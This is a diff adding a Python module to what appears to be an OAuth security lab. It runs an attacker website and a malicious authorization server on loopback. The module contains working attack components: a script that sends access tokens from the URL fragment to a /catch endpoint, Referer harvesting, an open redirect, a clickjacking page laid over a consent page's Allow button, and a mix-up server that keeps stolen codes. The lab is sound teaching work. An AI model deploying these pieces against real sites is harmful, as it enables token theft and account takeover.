@@ -1,0 +1,157 @@
+"""What the attacker runs in notebook 12 (the security lab): a website, and an authorization
+server of their own. Both on loopback, each on its own origin — neither the app's nor Fernhollow
+Accounts' — and nothing leaves this machine.
+
+    site = AttackerSite(lab.app.port + 4)
+    site.page("catch")        # where stolen codes and tokens are sent: http://127.0.0.1:8769/catch
+    site.caught()             # the parameters each /catch request brought, oldest first
+    site.referers()           # the Referer of each request for the banner image it serves
+
+    partner = AttackerAuthorizationServer(lab.app.port + 5, lab, {"widget-at-partner": "fernhollow-widget"})
+    partner.metadata()        # its RFC 8414 metadata, as a client configures itself from it
+    partner.token_requests()  # what clients sent its token endpoint
+
+The site's pages are what attackers serve: ``/catch`` keeps what arrives; ``/steal`` is a page
+whose script sends its own URL fragment (where the implicit grant puts the access token) to
+``/catch``; ``/banner.gif`` is an image, served to other sites' pages, that keeps their Referer;
+``/go?to=URL`` sends the visitor's browser on to any URL (a link in a phishing email);
+``/prize?frame=URL`` shows a prize button with URL framed over it, nearly transparent
+(clickjacking).
+"""
+from __future__ import annotations
+
+import html
+import json
+from urllib.parse import parse_qsl, urlencode, urlsplit
+
+import requests
+
+from .loopback_site import Site, SiteHandler
+
+# A transparent 1×1 GIF: the banner's pixels matter to nobody, its request to the attacker.
+PIXEL = bytes.fromhex("47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b")
+# The script of /steal: in the victim's browser it reads the fragment, which no server ever sees.
+STEAL = "fetch('/catch?' + location.hash.slice(1));"
+# Where the decoy sits on /prize: exactly under the Allow button of the framed consent page, as
+# Chromium lays it out for a one-scope request (tests/browser/test_attacks.py clicks it).
+DECOY = {"left": 40, "top": 373, "width": 79, "height": 38}
+
+
+class _SiteHandler(SiteHandler):
+    def page(self, path: str) -> None:
+        self.server.received.append({"path": self.path, "referer": self.headers.get("Referer")})
+        query = dict(parse_qsl(urlsplit(self.path).query))
+        if path == "/catch":
+            self.answer(200, "text/html; charset=utf-8", _html("Thank you!", "<p>Nothing to see here.</p>"))
+        elif path == "/steal":
+            self.answer(200, "text/html; charset=utf-8", _html("Loading…", f"<script>{STEAL}</script>"))
+        elif path == "/banner.gif":
+            self.answer(200, "image/gif", PIXEL)
+        elif path == "/go" and "to" in query:
+            self.redirect(query["to"])
+        elif path == "/prize" and "frame" in query:
+            self.answer(200, "text/html; charset=utf-8", _prize(query["frame"]))
+        else:
+            self.answer(404, "text/plain; charset=utf-8", "Not here.")
+
+
+def _html(title: str, body: str) -> str:
+    return (f"<!doctype html><html lang='en'><head><meta charset='utf-8'><title>{html.escape(title)}"
+            f"</title></head><body>{body}</body></html>")
+
+
+def _prize(framed: str) -> str:
+    """The clickjacking page: a decoy button, and the framed page on top of it where the user
+    cannot see it (opacity .15 here, so that you can; an attacker uses 0)."""
+    decoy = ("position:absolute;left:{left}px;top:{top}px;width:{width}px;height:{height}px;padding:0;"
+             "font-size:1rem;background:#e8590c;color:white;border:0;border-radius:4px").format(**DECOY)
+    frame = "position:absolute;left:0;top:0;width:720px;height:560px;border:0;opacity:.15;z-index:2"
+    return _html("You won!", (
+        "<h1 style='margin:1rem 30px;font-family:sans-serif'>You won a pair of trail runners!</h1>"
+        f"<button style='{decoy}'>Claim!</button>"
+        f"<iframe src='{html.escape(framed)}' style='{frame}' title='prize'></iframe>"))
+
+
+class AttackerSite(Site):
+    """The attacker's website: another origin than the app's and the server's."""
+
+    handler = _SiteHandler
+
+    def page(self, name: str, **params) -> str:
+        return f"{self.url}/{name}" + (f"?{urlencode(params)}" if params else "")
+
+    def caught(self) -> list[dict]:
+        """The parameters of every request to /catch: codes, states, tokens sent there."""
+        return [dict(parse_qsl(urlsplit(e["path"]).query)) for e in self.log()
+                if urlsplit(e["path"]).path == "/catch"]
+
+    def referers(self) -> list[str | None]:
+        """The Referer of every request for /banner.gif: the page the image was shown on."""
+        return [e["referer"] for e in self.log() if urlsplit(e["path"]).path == "/banner.gif"]
+
+    def __repr__(self):
+        return f"<the attacker's site {self.url}>"
+
+
+class Window:
+    """A page of the attacker's, shown in the notebook the way a browser shows it: in a frame, live
+    in JupyterLab on this machine (your browser loads it); a line of text everywhere else."""
+
+    def __init__(self, url: str, width: int = 740, height: int = 580):
+        self.url, self.width, self.height = url, width, height
+
+    def _repr_html_(self) -> str:
+        return (f"<iframe src='{html.escape(self.url)}' width='{self.width}' height='{self.height}' "
+                "title=\"the attacker's page\" style='border:1px solid #adb5bd'></iframe>")
+
+    def __repr__(self) -> str:
+        framed = dict(parse_qsl(urlsplit(self.url).query)).get("frame")
+        where = f", framing {framed.split('?')[0]}" if framed else ""
+        return f"the attacker's page {self.url.split('?')[0]}{where} (shown live in JupyterLab)"
+
+
+class _AuthorizationServerHandler(SiteHandler):
+    def page(self, path: str) -> None:
+        config = self.server.config
+        if path == "/.well-known/oauth-authorization-server":
+            self.answer(200, "application/json", json.dumps(config["metadata"]))
+        elif path == "/authorize":
+            # RFC 9700 §4.4.1 step 3: straight on to the honest server, with the client's id there.
+            params = dict(parse_qsl(urlsplit(self.path).query))
+            params["client_id"] = config["client_ids"].get(params.get("client_id"), "")
+            self.server.received.append({"path": self.path})
+            self.redirect(f"{config['honest']}?{urlencode(params)}")
+        else:
+            self.answer(404, "application/json", json.dumps({"error": "not_found"}))
+
+    def do_POST(self):  # noqa: N802 (http.server's naming)
+        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
+        self.server.received.append({"path": self.path, "form": dict(parse_qsl(body))})
+        # Whatever the client sent is the attacker's now; the client just sees a failure.
+        self.answer(400, "application/json", json.dumps({"error": "invalid_grant"}))
+
+
+class AttackerAuthorizationServer(Site):
+    """The attacker's authorization server (RFC 9700 §4.4's A-AS), just enough for a mix-up:
+    metadata, an authorization endpoint that sends every browser on to the honest server's
+    (`honest`, a lab), replacing the client's id here by its id there (`client_ids`), and a token
+    endpoint that keeps what the client sends it. Not a mock server: an honest server would not
+    bounce browsers elsewhere, nor keep the codes it is sent."""
+
+    handler = _AuthorizationServerHandler
+
+    def __init__(self, port: int, honest, client_ids: dict[str, str]):
+        super().__init__(port)
+        self.configure(honest=honest.metadata["authorization_endpoint"], client_ids=client_ids,
+                       metadata={"issuer": self.url, "authorization_endpoint": f"{self.url}/authorize",
+                                 "token_endpoint": f"{self.url}/token", "response_types_supported": ["code"]})
+
+    def metadata(self) -> dict:
+        return requests.get(f"{self.url}/.well-known/oauth-authorization-server", timeout=5).json()
+
+    def token_requests(self) -> list[dict]:
+        """The form of every token request clients sent here: codes and verifiers included."""
+        return [e["form"] for e in self.log() if "form" in e]
+
+    def __repr__(self):
+        return f"<the attacker's authorization server {self.url}>"
